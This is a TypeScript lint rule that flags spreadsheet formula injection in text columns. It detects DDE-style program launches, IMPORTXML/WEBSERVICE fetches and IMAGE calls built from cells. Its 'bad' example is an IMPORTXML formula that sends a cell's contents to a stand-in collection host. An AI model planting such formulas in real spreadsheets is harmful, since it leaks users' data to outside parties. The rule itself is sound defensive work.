import { bareFormula } from './_madeOf.ts';
import { rule } from './_rule.ts';
import { columnOf, headerOf, quote } from './_wording.ts';

export default rule({
  on: 'made',
  at: 'column',
  severity: 'error',
  phase: 'data',
  group: 'integrity',
  message: '{header} is meant for words and holds a formula that {does}: {formula}.',
  advice:
    'Type the words in its place. If somebody put it there on purpose, accept this finding with the reason.',
  why: 'A pasted or imported line that begins with an equals sign runs as a formula. Some formulas call an address outside and hand it what stands in other cells.',
  source: 'Formula injection, as OWASP describes it',
  bad: {
    column: 'keyResult',
    formula: '=IMPORTXML(CONCAT("https://collect.example/?t=",C3),"//a")',
    shown: '#N/A',
  },
  good: {
    column: 'source',
    formula: '=HYPERLINK("https://reports.example/returns","Returns report")',
    shown: 'Returns report',
  },

  check({ tab, column, formula }) {
    if (formula === '' || !WORDS.includes(columnOf(tab, column)?.kind ?? '')) return 'skip';
    const does = dangerOf(formula);
    return does !== null && { header: headerOf(tab, column), does, formula: quote(formula) };
  },
});

/** Columns in which people write; numbers and dates may well be fetched from elsewhere. */
const WORDS = ['text', 'choice', 'time'];

function dangerOf(formula: string): string | null {
  // Once the names of tabs and the texts are gone, this sign starts another program from Excel.
  if (/^=[+@-]?[A-Z]+\|/i.test(formula.replace(/\s/g, ''))) return 'starts another program';
  const bare = bareFormula({ formula });
  if (/\b(?:IMPORTXML|IMPORTHTML|IMPORTDATA|IMPORTFEED|WEBSERVICE)\(/.test(bare))
    return 'fetches from an address';
  // A picture or link with an address of its own is harmless; one made from cells tells what stands in them.
  return /\bIMAGE\([^;,)]*&/.test(bare) ? 'sends cells to an address' : null;
}
